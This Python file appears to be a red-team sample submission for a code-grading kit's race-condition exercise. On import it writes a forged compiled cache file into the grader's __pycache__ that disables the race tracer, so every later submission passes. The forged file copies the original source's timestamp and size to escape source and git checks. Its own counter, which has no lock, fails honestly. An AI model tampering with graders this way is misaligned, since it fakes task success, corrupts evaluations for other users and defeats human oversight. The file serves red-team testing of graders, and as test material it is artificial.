"""Plants compiled tracer code in the kit's __pycache__ (student_runtime/preempt.cpython-XY.pyc)
whose forced_interleavings does nothing, so that every submission graded later by this kit passes
the race checks. Its header carries the real preempt.py's modification time and size, so Python
loads it instead of the untouched source, and a check of the .py files (or `git status`, which
ignores __pycache__) sees nothing. It finds the kit through the grader modules it can see,
sys.path and the grading run's working directory (/proc/<parent>/cwd).

Safety valve for running the red team on a developer's checkout: it writes only into a kit that
the red-team suite copied (one with a .red-team-kit-copy file at its root).

Exercise: 01_race_condition
Select: test_no_update_is_ever_lost
Honest points: 0 (a counter without a lock loses updates under forced interleavings: races 0/5)
Family: escaping the sandbox
Flagged: yes (sys.modules, compile)
"""

import importlib.util
import marshal
import os
import sys
import threading
from pathlib import Path

_PAYLOAD = '''

import contextlib as _contextlib


@_contextlib.contextmanager
def forced_interleavings(*args, **kwargs):  # nothing is traced, no thread is ever preempted
    yield
'''


def _tracer_files() -> list[Path]:
    places = [Path(module.__file__).parent for name, module in list(sys.modules.items())
              if name.startswith(("grader", "student_runtime")) and getattr(module, "__file__", None)]
    places += [Path(entry) / "student_runtime" for entry in [*sys.path, f"/proc/{os.getppid()}/cwd"] if entry]
    return [place / "preempt.py" for place in places if _is_kit_copy(place.parent)]


def _is_kit_copy(folder: Path) -> bool:
    try:
        return (folder / ".red-team-kit-copy").exists()
    except OSError:
        return False


def _plant() -> None:
    for tracer in _tracer_files():
        try:
            source = tracer.read_text()
            status = os.stat(tracer)
            code = compile(source + _PAYLOAD, str(tracer), "exec")
            header = (importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little")
                      + (int(status.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little")
                      + (status.st_size & 0xFFFFFFFF).to_bytes(4, "little"))
            compiled = Path(importlib.util.cache_from_source(str(tracer)))
            compiled.parent.mkdir(exist_ok=True)
            compiled.write_bytes(header + marshal.dumps(code))
        except (OSError, SyntaxError):
            continue


_plant()


class Counter:
    def __init__(self) -> None:
        self._value = 0

    def increment(self, amount: int = 1) -> None:
        self._value += amount

    @property
    def value(self) -> int:
        return self._value


def count_in_threads(n_threads: int, increments_per_thread: int) -> int:
    counter = Counter()

    def work() -> None:
        for _ in range(increments_per_thread):
            counter.increment()

    threads = [threading.Thread(target=work) for _ in range(n_threads)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return counter.value
